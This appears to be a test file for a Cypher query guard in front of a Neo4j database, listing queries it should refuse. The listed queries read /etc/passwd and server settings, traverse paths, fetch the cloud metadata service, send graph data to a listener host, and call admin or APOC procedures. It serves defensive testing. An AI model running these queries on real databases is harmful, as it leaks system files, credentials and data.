// Files, the network, procedures and functions that reach out of the graph. {listener} is a web server that records every visit.
//// csv of a file · refused
LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line
//// csv of a file with headers · refused
LOAD CSV WITH HEADERS FROM 'file:///etc/passwd' AS line RETURN line
//// csv by another separator · refused
LOAD CSV FROM 'file:///etc/passwd' AS line FIELDTERMINATOR ':' RETURN line[0] AS user
//// csv of a path without a scheme · refused
LOAD CSV FROM '/etc/passwd' AS line RETURN line
//// csv of a path that climbs · refused
LOAD CSV FROM 'file:///../../../../etc/passwd' AS line RETURN line
//// csv of a path that climbs, encoded · refused
LOAD CSV FROM 'file:///%2e%2e/%2e%2e/etc/passwd' AS line RETURN line
//// csv of the server's settings · refused
LOAD CSV FROM 'file:///conf/neo4j.conf' AS line RETURN line
//// csv of a file in the folder for imports · refused
LOAD CSV FROM 'file:///secret.csv' AS line RETURN line
//// csv of a share · refused
LOAD CSV FROM 'file://host/share/x.csv' AS line RETURN line
//// csv of a web page · refused
LOAD CSV FROM '{listener}/csv' AS line RETURN line
//// csv of a web page, the address a parameter's default · refused
WITH '{listener}/with' AS u LOAD CSV FROM u AS line RETURN line
//// csv that carries data out · refused
MATCH (a:Agency) WITH collect(a.name) AS names LOAD CSV FROM '{listener}/out?' + names[0] AS line RETURN line
//// csv of the metadata service · refused
LOAD CSV FROM 'http://169.254.169.254/latest/meta-data/' AS line RETURN line
//// csv by https · refused
LOAD CSV FROM 'https://127.0.0.1:1/x' AS line RETURN line
//// csv by ftp · refused
LOAD CSV FROM 'ftp://127.0.0.1/x' AS line RETURN line
//// csv out of a jar · refused
LOAD CSV FROM 'jar:{listener}/x.jar!/x.csv' AS line RETURN line
//// csv out of a jar on disk · refused
LOAD CSV FROM 'jar:file:///x.jar!/META-INF/MANIFEST.MF' AS line RETURN line
//// csv of a bucket · refused
LOAD CSV FROM 's3://bucket/x' AS line RETURN line
//// csv by an empty scheme · refused
LOAD CSV FROM '' AS line RETURN line
//// csv in a subquery · refused
CALL { LOAD CSV FROM '{listener}/sub' AS line RETURN line } RETURN line
//// csv in an exists subquery · refused
RETURN EXISTS { LOAD CSV FROM '{listener}/exists' AS line RETURN line } AS x
//// csv in a collect subquery · refused
RETURN COLLECT { LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line } AS x
//// csv in a union · refused
RETURN ['x'] AS line UNION LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line
//// csv in transactions · refused
LOAD CSV FROM 'file:///etc/passwd' AS line CALL { WITH line CREATE (:X) } IN TRANSACTIONS
//// csv for no rows · refused
UNWIND [] AS u LOAD CSV FROM u AS line RETURN line
//// csv of a file and linenumber() · refused
LOAD CSV FROM 'file:///etc/hosts' AS line RETURN linenumber() AS n, file() AS f
//// file() without a file · harmless
RETURN file() AS f, linenumber() AS n
//// settings · refused
CALL dbms.listConfig()
//// settings, only a name · refused
CALL dbms.listConfig('server.directories') YIELD name, value RETURN name, value
//// version · refused
CALL dbms.components()
//// who am I · refused
CALL dbms.showCurrentUser()
//// connections · refused
CALL dbms.listConnections()
//// end a connection · refused
CALL dbms.killConnection('bolt-1')
//// end connections · refused
CALL dbms.killConnections(['bolt-1', 'bolt-2'])
//// set a setting · refused
CALL dbms.setConfigValue('db.transaction.timeout', '0')
//// query statistics · refused
CALL db.stats.retrieve('QUERIES')
//// clear caches · refused
CALL db.clearQueryCaches()
//// metrics · refused
CALL dbms.queryJmx('*:*')
//// routing table · refused
CALL dbms.routing.getRoutingTable({})
//// cluster · refused
CALL dbms.cluster.overview()
//// upgrade · refused
CALL dbms.upgrade()
//// a label made · refused
CALL db.createLabel('X')
//// a type made · refused
CALL db.createRelationshipType('X')
//// a property made · refused
CALL db.createProperty('x')
//// indexes awaited · refused
CALL db.awaitIndexes(1)
//// an index resampled · refused
CALL db.resampleIndex('x')
//// checkpoint · refused
CALL db.checkpoint()
//// ping · refused
CALL db.ping()
//// transaction data set · refused
CALL tx.setMetaData({user: 'admin'})
//// transaction data read · refused
CALL tx.getMetaData()
//// apoc load · refused
CALL apoc.load.json('{listener}/apoc') YIELD value RETURN value
//// apoc run · refused
CALL apoc.cypher.doIt('CREATE (:X)', {}) YIELD value RETURN value
//// apoc read of a file · refused
CALL apoc.load.csv('file:///etc/passwd') YIELD list RETURN list
//// apoc function · refused
RETURN apoc.util.sleep(100000) AS x
//// gds · refused
CALL gds.graph.project('x', '*', '*')
//// vector of a model · refused
RETURN genai.vector.encode('x', 'OpenAI', {token: 'x'}) AS v
//// procedure by a quoted name · refused
CALL `dbms`.`listConfig`()
//// procedure without brackets · refused
CALL dbms.components
//// procedure in a subquery · refused
CALL { CALL dbms.listConfig() YIELD name RETURN name } RETURN name
//// procedure in an exists subquery · refused
RETURN EXISTS { CALL dbms.components() YIELD name RETURN name } AS x
//// procedure after an allowed one · refused
CALL db.labels() YIELD label CALL dbms.listConfig() YIELD name RETURN name
//// procedure with a space in its name · refused
CALL dbms . components ( )
